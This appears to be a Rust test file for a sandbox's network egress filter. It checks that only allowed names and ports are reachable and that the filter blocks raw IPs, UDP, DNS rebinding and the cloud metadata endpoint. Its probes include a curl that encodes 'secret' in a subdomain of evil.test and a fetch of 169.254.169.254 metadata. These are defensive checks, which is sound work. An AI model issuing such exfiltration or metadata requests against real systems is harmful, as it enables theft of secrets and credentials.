//! What a box reaches, asked from inside with ordinary programs.

use super::host::TestHost;
use super::program::Said;
use std::net::SocketAddr;

const NO_PROXY: &str = "env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY \
    -u http_proxy -u https_proxy -u all_proxy";

/// A host with box `one` that may reach `ok.test`.
fn host_with_box() -> TestHost {
    let host = TestHost::new();
    host.rig.origin("ok.test");
    host.rig.origin("other.test");
    host.ok(&["new", "one", "--allow", "ok.test"]);
    host
}

fn curl(host: &TestHost, before: &str, url: &str) -> Said {
    host.shell(
        "one",
        &format!("{before} curl -sS -m 20 -w ' %{{http_code}}' {url}"),
    )
}

#[test]
fn an_allowed_name_is_reached_both_ways() {
    let host = host_with_box();
    for (way, before) in [("transparent", NO_PROXY), ("proxy", "")] {
        for url in ["https://ok.test/", "http://ok.test/"] {
            let said = curl(&host, before, url);
            assert_eq!(said.out, "hello from ok.test\n 200", "{way} {url}: {said}");
        }
    }
    // What the proxy variables say is used: with a wrong one, curl fails.
    let wrong = curl(
        &host,
        "env https_proxy=http://127.0.0.1:1",
        "https://ok.test/",
    );
    assert_ne!(wrong.code, 0, "{wrong}");
    assert_eq!(host.rig.requests("ok.test").len(), 4);
    let headers: Vec<_> = host
        .rig
        .all_requests()
        .iter()
        .flat_map(|request| request.headers.clone())
        .filter(|(name, _)| name.starts_with("proxy-") || name == "via")
        .collect();
    assert_eq!(headers, [], "headers of the way out reached an origin");
}

#[test]
fn a_refused_name_is_told_why_and_never_resolved() {
    let host = host_with_box();
    for before in [NO_PROXY, ""] {
        let said = curl(&host, before, "http://other.test/");
        assert!(said.out.contains("other.test"), "{said}");
        assert!(!said.out.contains("hello"), "{said}");
    }
    let said = curl(&host, NO_PROXY, "https://other.test/");
    assert!(
        said.out.ends_with(" 451") && said.out.contains("other.test"),
        "{said}"
    );
    let said = curl(&host, NO_PROXY, "https://c2VjcmV0.evil.test/");
    assert!(said.out.ends_with(" 451"), "{said}");
    assert_eq!(host.rig.requests("other.test"), []);
    let asked: Vec<String> = host
        .rig
        .queries()
        .into_iter()
        .map(|query| query.name)
        .collect();
    assert!(
        asked
            .iter()
            .all(|name| !name.ends_with("other.test") && !name.contains("evil")),
        "{asked:?}"
    );
    // The control: names are resolved at all.
    assert_eq!(curl(&host, NO_PROXY, "https://ok.test/").code, 0);
    assert!(host.rig.queries_for("ok.test") > 0);
}

#[test]
fn addresses_and_other_ports_lead_nowhere() {
    let host = host_with_box();
    host.rig
        .listen(8080, box_fakes::rig::Listener::Echo)
        .unwrap();
    let tries = [
        "https://1.1.1.1/",
        "http://45.33.32.100/",
        "http://[2606:4700::1111]/",
        "http://169.254.169.254/latest/meta-data/",
        "http://ok.test:8080/",
    ];
    for url in tries {
        let said = curl(&host, NO_PROXY, url);
        assert_ne!(said.code, 0, "{url}: {said}");
    }
    let udp = "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
        s.settimeout(1); s.sendto(b'x', ('8.8.8.8', 53)); s.recv(10)\"";
    assert_ne!(host.shell("one", udp).code, 0);
    assert_eq!(host.rig.accepts_in_all(), 0, "something was dialled");
    // The control: the same box reaches the same origin by its name.
    assert_eq!(curl(&host, NO_PROXY, "http://ok.test/").code, 0);
    let origin = host.rig.origin("ok.test");
    assert_eq!(host.rig.accepts(SocketAddr::new(origin.address, 80)), 1);
}

#[test]
fn a_name_that_turns_private_is_not_dialled() {
    let host = host_with_box();
    let address = |text: &str| box_fakes::rig::Answer::addresses([text.parse().unwrap()]);
    host.rig.zone("ok.test", address("169.254.169.254"));
    let said = curl(&host, NO_PROXY, "https://ok.test/");
    assert!(!said.out.ends_with(" 200"), "{said}");
    assert_eq!(host.rig.accepts_in_all(), 0);
    host.rig.zone("ok.test", address("45.33.32.100"));
    // The control: the public address is dialled. A bad answer is not kept.
    assert_eq!(curl(&host, NO_PROXY, "http://ok.test/").code, 0);
}

#[test]
fn a_listed_port_is_reached_and_no_other() {
    let host = TestHost::new();
    host.rig.origin("ok.test");
    for port in [7001, 7002] {
        host.rig
            .listen(port, box_fakes::rig::Listener::Greeting(b"hi\n".to_vec()))
            .unwrap();
    }
    host.ok(&["new", "one", "--allow", "ok.test:7001"]);
    let talk = |port: u16| {
        let script = "import socket, sys; s = socket.create_connection(('ok.test', int(sys.argv[1])), 5); \
            s.settimeout(5); print(s.recv(2))";
        host.run(&[
            "exec",
            "one",
            "--",
            "python3",
            "-c",
            script,
            &port.to_string(),
        ])
    };
    let listed = talk(7001);
    assert_eq!(listed.out, "b'hi'\n", "{listed}");
    let other = talk(7002);
    assert!(!other.out.contains("hi"), "{other}");
}
